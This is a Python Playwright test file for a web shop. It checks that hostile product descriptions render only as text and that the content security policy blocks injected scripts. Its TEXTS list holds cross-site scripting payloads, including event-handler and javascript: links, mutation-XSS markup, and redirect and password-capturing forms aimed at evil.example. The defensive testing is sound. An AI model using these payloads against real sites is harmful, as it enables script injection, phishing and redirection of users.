"""Texts that mean harm, read in a real browser: nothing of them runs, leaves the shop or covers the page."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from app.kit.database.pool import Connection
from tests.e2e.looking import DESKTOP, wait_until
from tests.support.rows import a_product
from tests.support.running_shop import RunningShop
from tests.support.shop_stock import insert_at_start

pytestmark = pytest.mark.browser

TEXTS = (
    "a <code> <meta/http-equiv=refresh content=0;url=//evil.example>",
    "a <pre> <script>window.harmed = 1</script>",
    "a <kbd> <img src=x onerror=window.harmed=1>",
    "a <script> <svg/onload=window.harmed=1>",
    "<script>\n\nwindow.harmed = 1\n\n</script>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>top.harmed=1</script>'></iframe>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.harmed=1>",
    "![x](x' onerror='window.harmed=1)",
    "```x'onmouseover='window.harmed=1\ncode\n```",
    "[x](javascript:window.harmed=1) [x](data:text/html,<script>top.harmed=1</script>)",
    "<javascript:window.harmed=1>",
    "&lt;script&gt;window.harmed = 1&lt;/script&gt;",
)
END = "That was every trick there is."
ALLOWED = {
    "P", "H2", "H3", "H4", "H5", "H6", "BLOCKQUOTE", "UL", "OL", "LI", "HR", "BR", "PRE", "CODE",
    "EM", "STRONG", "DEL", "A", "IMG", "INPUT", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
}  # fmt: skip
ELEMENTS = "[...document.querySelectorAll('.prose *')].map(each => each.tagName)"
HANDLERS = """
[...document.querySelectorAll('.prose *')].flatMap(each => each.getAttributeNames())
    .filter(name => name.startsWith('on') || name === 'style' || name === 'srcdoc')
"""
SCHEMES = "[...document.querySelectorAll('.prose a')].map(each => each.protocol)"


@insert_at_start
async def insert_hostile_product(connection: Connection) -> str:
    """A product that is described by all the texts; the address of its page."""
    await a_product(
        connection, slug="every-trick", name="Every trick", description="\n\n".join((*TEXTS, END))
    )
    return "/products/every-trick"


@pytest.fixture
def hostile_page(shop: RunningShop) -> str:
    return shop.stock[insert_hostile_product]


@pytest.fixture(params=[False, True], ids=["with the policy", "without the policy"])
def reader(browser: Browser, shop_url: str, request: pytest.FixtureRequest) -> Iterator[Page]:
    """A browser that keeps to the page's content security policy, and one that does not."""
    context = browser.new_context(viewport=DESKTOP, base_url=shop_url, bypass_csp=request.param)
    yield context.new_page()
    context.close()


def test_every_trick_is_only_words(reader: Page, hostile_page: str, shop_url: str) -> None:
    reader.goto(hostile_page)
    expect(reader.get_by_role("heading", level=1)).to_be_visible()
    expect(reader.locator(".prose", has_text=END)).to_contain_text("<script> window.harmed = 1 </script>")
    reader.wait_for_load_state("networkidle")
    assert reader.url == shop_url + hostile_page
    assert reader.evaluate("window.harmed") is None
    assert set(reader.evaluate(ELEMENTS)) <= ALLOWED
    assert reader.evaluate(HANDLERS) == []
    assert set(reader.evaluate(SCHEMES)) <= {"http:", "https:", "mailto:"}


def test_a_page_vouches_for_each_script_of_its_own(page: Page, shop_url: str) -> None:
    """And needs no other: it comes to life without a complaint (see the fixture `page`)."""
    answer = page.goto(f"{shop_url}/products/lipstick-07")
    assert answer is not None
    html = answer.text()
    assert answer.headers["content-security-policy"].count("'sha256-") == html.count("<script>") > 1
    assert "nonce" not in html
    assert not re.search(r"script-src[^;]*unsafe", answer.headers["content-security-policy"])
    page.wait_for_function("() => Object.keys(document.body).some(name => name.startsWith('__react'))")


def test_a_script_in_a_page_that_it_did_not_write_is_blocked(browser: Browser, shop_url: str) -> None:
    context = browser.new_context(viewport=DESKTOP, base_url=shop_url)
    page = context.new_page()
    blocked: list[str] = []
    page.on("console", lambda message: blocked.append(message.text))

    def inject(route: Route) -> None:
        answer = route.fetch()
        script = "<script>window.harmed = 1</script>"
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{script}</main>"))

    page.route("**/products/lipstick-07", inject)
    page.goto("/products/lipstick-07")
    wait_until(page, lambda: any("Content Security Policy" in text for text in blocked))
    assert page.evaluate("window.harmed") is None
    context.close()
